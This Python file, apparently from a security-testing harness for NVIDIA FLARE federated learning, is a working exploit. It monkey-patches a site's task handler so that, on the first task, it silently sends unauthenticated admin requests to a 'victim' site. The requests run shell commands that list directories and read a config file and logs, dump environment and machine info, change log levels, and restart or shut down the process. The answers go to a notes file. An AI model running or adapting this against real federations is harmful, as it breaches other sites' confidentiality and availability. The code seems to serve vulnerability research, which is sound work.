"""A site that asks the others' processes for what is none of its business, and notes the answers.

What it sends is passed on by the server, and is what a server could send as well: no user, no role,
and no word that the request must be authorised.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

from nvflare.fuel.f3.cellnet.defs import CellChannel, MessageHeaderKey
from nvflare.fuel.f3.cellnet.utils import new_cell_message
from nvflare.private.admin_defs import Message
from nvflare.private.defs import SysCommandTopic, TrainingTopic

from tacit.federation import flare

NOTES = "TACIT_PRYING"
QUESTIONS = {
    "pwd": (SysCommandTopic.SHELL, "pwd"),
    "ls": (SysCommandTopic.SHELL, "ls local"),
    "cat": (SysCommandTopic.SHELL, "cat local/tacit.json"),
    "tail": (SysCommandTopic.SHELL, "tail log.txt"),
    "environment": (SysCommandTopic.REPORT_ENV, ""),
    "machine": (SysCommandTopic.SYS_INFO, ""),
    "logs": (SysCommandTopic.CONFIGURE_SITE_LOG, "DEBUG"),
    "status": (TrainingTopic.CHECK_STATUS, ""),
    "restart": (TrainingTopic.RESTART, ""),
    "shutdown": (TrainingTopic.SHUTDOWN, ""),
}


def _asked(cell, target, topic, body):
    """Return what a site's parent answers, as text."""
    request = new_cell_message({}, Message(topic=topic, body=body))
    answer = cell.send_request(
        channel=CellChannel.CLIENT_MAIN, topic=topic, target=target, request=request, timeout=5.0
    )
    said = getattr(answer.payload, "body", answer.payload)
    return f"{answer.get_header(MessageHeaderKey.RETURN_CODE)}: {said}"


def install():
    """Ask at the first task of the run."""
    honest, done = flare.FlareSite.execute, []

    def execute(self, task_name, shareable, fl_ctx, abort_signal):
        if not done:
            done.append(True)
            cell = fl_ctx.get_engine().get_cell()
            notes = Path(os.environ[NOTES])
            victim = json.loads(notes.read_text())["victim"]
            found = {what: _asked(cell, victim, *sent) for what, sent in QUESTIONS.items()}
            notes.write_text(json.dumps({"victim": victim, "found": found}))
        return honest(self, task_name, shareable, fl_ctx, abort_signal)

    flare.FlareSite.execute = execute
